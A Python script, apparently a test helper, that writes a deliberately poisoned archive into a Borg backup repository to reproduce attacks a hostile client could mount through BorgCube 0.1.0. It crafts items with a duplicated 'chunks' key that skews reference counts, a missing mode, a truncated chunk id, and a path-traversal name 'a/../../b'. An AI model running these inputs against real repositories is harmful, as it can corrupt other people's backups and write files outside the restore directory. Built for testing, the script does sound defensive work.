"""Write a poisoned archive into a repository, as a hostile client could through BorgCube 0.1.0.

Runs as a process of its own, with borg's library: ``python poison.py REPOSITORY SOURCE NAME KIND``.
The counts in Borg's cache are raised by what Python's msgpack reads of it, as 0.1.0 did.
"""

from __future__ import annotations

import sys
from typing import Any

import msgpack
from borg.archive import Archive
from borg.cache import Cache
from borg.crypto.key import key_factory
from borg.helpers import Manifest
from borg.logger import setup_logging
from borg.repository import Repository

setup_logging()


def pack(value: Any) -> bytes:
    packed: bytes = msgpack.packb(value, use_bin_type=False)
    return packed


def twice(item: dict[str, Any], other: list[Any]) -> bytes:
    """An item whose key ``chunks`` comes twice: Borg counts both, Python reads the last."""
    pairs = [(key, value) for key, value in sorted(item.items()) if key != "chunks"]
    pairs = [("chunks", other), ("chunks", item["chunks"]), *pairs]
    return bytes([0x80 | len(pairs)]) + b"".join(pack(key) + pack(value) for key, value in pairs)


def main(path: str, source: str, name: str, kind: str) -> None:
    with Repository(path, exclusive=True) as repository:
        manifest, key = Manifest.load(repository, Manifest.NO_OPERATION_CHECK)
        assert key_factory(repository, repository.get(Manifest.MANIFEST_ID))
        with Cache(repository, key, manifest) as cache:
            archive = Archive(repository, key, manifest, source, cache=cache)
            items = [dict(item.as_dict()) for item in archive.iter_items()]
            files = [one for one in items if one.get("chunks")]
            victim = [tuple(entry) for entry in files[0]["chunks"]]
            made = []
            for item in items:
                if kind == "twice" and item is files[-1]:
                    made.append(twice(item, victim * 3))
                elif kind == "no-mode" and item is files[-1]:
                    made.append(pack({k: v for k, v in sorted(item.items()) if k != "mode"}))
                elif kind == "short-id" and item is files[-1]:
                    short = {**item, "chunks": [(b"x" * 31, 1, 1)], "size": 1}
                    made.append(pack(dict(sorted(short.items()))))
                elif kind == "climbs" and item is files[-1]:
                    made.append(pack(dict(sorted({**item, "path": "a/../../b"}.items()))))
                else:
                    made.append(pack(dict(sorted(item.items()))))
            stream = b"".join(made)
            cache.begin_txn()
            for one in files:
                for entry in one["chunks"]:
                    cache.chunks.add(entry[0], 1, entry[1], entry[2])
            stats = archive.stats if hasattr(archive, "stats") else None
            from borg.archive import Statistics

            stats = stats or Statistics()
            stream_id, _, _ = cache.add_chunk(key.id_hash(stream), stream, stats)
            metadata = {**archive.metadata.as_dict(), "name": name, "items": [stream_id]}
            metadata.pop("tam", None)
            data = key.pack_and_authenticate_metadata(metadata, context=b"archive")
            archive_id, _, _ = cache.add_chunk(key.id_hash(data), data, stats)
            manifest.archives[name] = (archive_id, archive.metadata.time)
            manifest.write()
            repository.commit(compact=False)
            cache.commit()


if __name__ == "__main__":
    main(*sys.argv[1:])
